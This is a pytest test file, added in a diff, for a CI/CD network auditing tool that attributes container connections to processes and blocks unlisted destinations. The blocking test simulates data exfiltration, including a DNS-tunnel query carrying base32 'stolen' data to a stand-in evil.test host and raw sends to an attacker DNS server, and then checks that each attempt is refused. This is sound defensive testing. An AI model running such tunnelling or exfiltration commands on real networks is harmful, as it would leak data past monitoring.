@@ -1,0 +1,218 @@
+"""Process attribution and blocking for a container on the same host, live.
+
+The lab's container (tests/netns.py, `Lab.add_container()`) has a network
+namespace of its own, routed (no NAT) through the client namespace, where the
+recorder runs with TC on the client's uplink veth only, and its processes sit
+in a child of the lab's cgroup, the one the recorder's socket hooks are on.
+Its packets reach TC without their socket, so the process comes from the flow
+join: sock_ops for TCP, sendmsg for unconnected UDP, the cgroup_skb egress
+program for connected UDP (dig, glibc's resolver).
+
+Every client runs through `announced()`, which prints its name and pid and
+then execs it, so each row's process is checked against the real pid.
+"""
+
+from __future__ import annotations
+
+import shlex
+import shutil
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from cicd_audit.zeeklog.reader import read_log
+from netns import DNS_NAME, HTTP_PORT, OTHER_V4, OTHER_V6, V4, V6
+
+pytestmark = [pytest.mark.root, pytest.mark.netns, pytest.mark.slow]
+
+POLICY = "allowed:\n  domains: [www.example.test, \"*.cdn.example.test\"]\n"
+DIG = ["dig", "+short", "+tries=1", "+time=1"]
+UDP_PORT = 9999
+PYTHON = Path(sys.executable)
+
+
+def exe(program: str) -> str:
+    return str(Path(shutil.which(program)).resolve())
+
+
+def announced(name: str, argv: list[str]) -> list[str]:
+    """argv, after printing "<name> <pid>": the shell execs it, so the pid is argv's."""
+    return ["sh", "-c", f'echo {name} $$; exec "$@"', "sh", *argv]
+
+
+def curl(name: str, url: str, *options: str) -> list[str]:
+    """curl printing "<name>= <http code> <connect seconds> <total seconds>"."""
+    return ["curl", "-s", "-o", "/dev/null", "--max-time", "5", *options,
+            "-w", f"{name}= %{{http_code}} %{{time_connect}} %{{time_total}}\\n", url]
+
+
+RAW_ATTEMPT = """
+import errno, socket, sys, time
+name, proto, host, port, payload = sys.argv[1:]
+family = socket.AF_INET6 if ":" in host else socket.AF_INET
+s = socket.socket(family, socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM)
+started = time.monotonic()
+try:
+    if proto == "tcp":
+        s.connect((host, int(port)))
+    else:
+        s.sendto(payload.encode(), (host, int(port)))
+    outcome = "sent"
+except OSError as exc:
+    outcome = errno.errorcode.get(exc.errno, str(exc.errno))
+print(f"{name}= {outcome} {time.monotonic() - started:.6f}", flush=True)
+time.sleep(0.2)     # alive while the recorder reads /proc/<pid>/exe
+"""
+
+
+def raw_attempt(name: str, proto: str, host: str, port: int, payload: str = "") -> list[str]:
+    """Python connecting (tcp) or sending (udp) to host:port, printing "<name>= <errno name|sent> <seconds>"."""
+    return [str(PYTHON), "-c", RAW_ATTEMPT, name, proto, host, str(port), payload]
+
+
+def in_container(container, name: str, argv: list[str]) -> str:
+    """A shell command running argv in the container, announced as name."""
+    return shlex.join(container.cmd(announced(name, argv)))
+
+
+def parse_output(stdout: str) -> tuple[dict[str, int], dict[str, list[str]]]:
+    """({name: pid} from announcements, {name: fields} from "<name>= ..." lines)."""
+    pids, results = {}, {}
+    for line in stdout.splitlines():
+        fields = line.split()
+        if len(fields) >= 2 and fields[0].endswith("="):
+            results[fields[0][:-1]] = fields[1:]
+        elif len(fields) == 2 and fields[1].isdigit():
+            pids[fields[0]] = int(fields[1])
+    return pids, results
+
+
+def rows(out: Path, path: str) -> list[dict]:
+    return list(read_log(out / f"{path}.log")[1])
+
+
+def process_of(row: dict) -> tuple:
+    return row["proc.pid"], row["proc.name"], row["proc.exe"], row["proc.cgroup"]
+
+
+@pytest.fixture
+def container(lab):
+    return lab.add_container()
+
+
+@pytest.fixture
+def policy(tmp_path) -> Path:
+    p = tmp_path / "policy.yml"
+    p.write_text(POLICY)
+    return p
+
+
+def container_cgroup(lab, container) -> str:
+    return f"/{lab.cgroup.name}/{container.cgroup.name}"
+
+
+def test_container_connections_name_their_process(lab, container, tmp_path):
+    """TCP (IPv4, IPv6), connected UDP (dig) and unconnected UDP (Python's sendto) from
+    the container: each conn.log row names the container's process and cgroup."""
+    sendto = (f"import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+              f"s.sendto(b'x' * 9, ('{V4[1]}', {UDP_PORT})); time.sleep(0.2)")
+    script = "; ".join([
+        in_container(container, "curl4", curl("curl4", f"http://{V4[1]}:{HTTP_PORT}/")),
+        in_container(container, "curl6", curl("curl6", f"http://[{V6[1]}]:{HTTP_PORT}/")),
+        in_container(container, "dig", [*DIG, DNS_NAME]),
+        in_container(container, "sendto", [str(PYTHON), "-c", sendto]),
+    ])
+    out = tmp_path / "logs"
+    r = lab.record(out, ["sh", "-c", script])
+    assert r.returncode == 0, r.stderr
+    pids, results = parse_output(r.stdout)
+    assert results["curl4"][0] == results["curl6"][0] == "200", r.stdout
+    assert V4[1] in r.stdout.split(), f"dig got no answer: {r.stdout}"
+
+    cgroup = container_cgroup(lab, container)
+    expected = {
+        ("tcp", container.v4, V4[1], HTTP_PORT): (pids["curl4"], "curl", exe("curl"), cgroup),
+        ("tcp", container.v6, V6[1], HTTP_PORT): (pids["curl6"], "curl", exe("curl"), cgroup),
+        ("udp", container.v4, V4[1], 53): (pids["dig"], "dig", exe("dig"), cgroup),
+        ("udp", container.v4, V4[1], UDP_PORT): (pids["sendto"], PYTHON.name, str(PYTHON.resolve()), cgroup),
+    }
+    conns = [c for c in rows(out, "conn") if c["id.orig_h"] in (container.v4, container.v6)]
+    seen = {(c["proto"], c["id.orig_h"], c["id.resp_h"], c["id.resp_p"]): process_of(c) for c in conns}
+    assert seen == expected
+    assert len(conns) == len(expected)
+
+    dns = rows(out, "dns")
+    assert [(d["query"], d["qtype_name"], d["answers"], d["id.orig_h"]) for d in dns] == \
+        [(DNS_NAME, "A", [V4[1]], container.v4)]
+    dig_conn = next(c for c in conns if c["id.resp_p"] == 53)
+    assert dns[0]["uid"] == dig_conn["uid"]
+
+
+def test_container_blocking(lab, container, tmp_path, policy):
+    """From the container: an allowed name resolves (glibc) and connects at once; raw
+    addresses fail at connect()/sendto() with EPERM; unlisted names get no answer and
+    the attacker's DNS server receives nothing; every refusal's notice names the
+    container's process."""
+    received = []
+    sink = lab.popen(lab.server_ns, [sys.executable, "-c", (
+        "import socket\n"
+        f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('{OTHER_V4}', 53))\n"
+        "print('listening', flush=True)\n"
+        "while True:\n"
+        "    d, _ = s.recvfrom(4096); print(len(d), flush=True)\n")], stdout=subprocess.PIPE, text=True)
+    assert sink.stdout.readline() == "listening\n"
+    reader = threading.Thread(target=lambda: received.extend(sink.stdout), daemon=True)
+    reader.start()
+    secret = "MZXW6YTBOI"     # base32 of the "stolen" data, as tunnels encode it
+    script = "; ".join([
+        in_container(container, "allowed", curl("allowed", f"http://{DNS_NAME}:{HTTP_PORT}/", "-4")),
+        in_container(container, "allowed6", curl("allowed6", f"http://{DNS_NAME}:{HTTP_PORT}/", "-6")),
+        in_container(container, "raw", raw_attempt("raw", "tcp", OTHER_V4, HTTP_PORT)),
+        in_container(container, "raw6", raw_attempt("raw6", "tcp", OTHER_V6, HTTP_PORT)),
+        in_container(container, "direct", raw_attempt("direct", "udp", OTHER_V4, 53, secret)),
+        in_container(container, "unlisted", [*DIG, "evil.example.test"]) + "; echo unlisted= $?",
+        in_container(container, "tunnel", [*DIG, f"{secret}.t.evil.test"]) + "; echo tunnel= $?",
+    ])
+    out = tmp_path / "logs"
+    r = lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1])
+    assert r.returncode == 0, r.stderr
+    pids, results = parse_output(r.stdout)
+
+    for name in ("allowed", "allowed6"):
+        code, connect, _ = results[name]
+        assert code == "200", r.stdout
+        assert float(connect) < 0.5, f"{name}: the first connect to a just-resolved name must pass at once"
+    for name in ("raw", "raw6", "direct"):
+        outcome, seconds = results[name]
+        assert outcome == "EPERM" and float(seconds) < 0.1, f"{name}: must be refused at once: {results[name]}"
+    assert results["unlisted"] == results["tunnel"] == ["9"], "unlisted names must get no answer (dig: 9)"
+    sink.terminate()          # the recording is over: whatever was sent has arrived
+    sink.wait(5)
+    reader.join(5)
+    assert received == [], "the attacker's DNS server received tunnel data"
+
+    cgroup = container_cgroup(lab, container)
+    curl_of = lambda name: (pids[name], "curl", exe("curl"), cgroup)                          # noqa: E731
+    dig_of = lambda name: (pids[name], "dig", exe("dig"), cgroup)                             # noqa: E731
+    python_of = lambda name: (pids[name], PYTHON.name, str(PYTHON.resolve()), cgroup)         # noqa: E731
+    notices = rows(out, "notice")
+    assert sorted((n["note"], n["proto"], n["id.resp_h"], n["id.resp_p"], n["sub"], process_of(n))
+                  for n in notices) == sorted([
+        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V4, HTTP_PORT, None, python_of("raw")),
+        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V6, HTTP_PORT, None, python_of("raw6")),
+        ("CicdAudit::Blocked_Connection", "udp", OTHER_V4, 53, None, python_of("direct")),
+        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, "evil.example.test", dig_of("unlisted")),
+        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, f"{secret.lower()}.t.evil.test", dig_of("tunnel")),
+    ])
+
+    # The allowed connections, and the lookups (glibc, connected UDP) that let them through.
+    conns = [c for c in rows(out, "conn") if c["id.orig_h"] in (container.v4, container.v6)]
+    web = [c for c in conns if c["id.resp_p"] == HTTP_PORT and c["id.resp_h"] in (V4[1], V6[1])]
+    assert sorted((c["id.resp_h"], c["conn_state"], c["blocked"], process_of(c)) for c in web) == sorted([
+        (V4[1], "SF", False, curl_of("allowed")), (V6[1], "SF", False, curl_of("allowed6"))])
+    lookups = {d["uid"] for d in rows(out, "dns") if d["query"] == DNS_NAME}
+    lookup_conns = [c for c in conns if c["uid"] in lookups]
+    assert sorted(process_of(c) for c in lookup_conns) == sorted([curl_of("allowed"), curl_of("allowed6")])
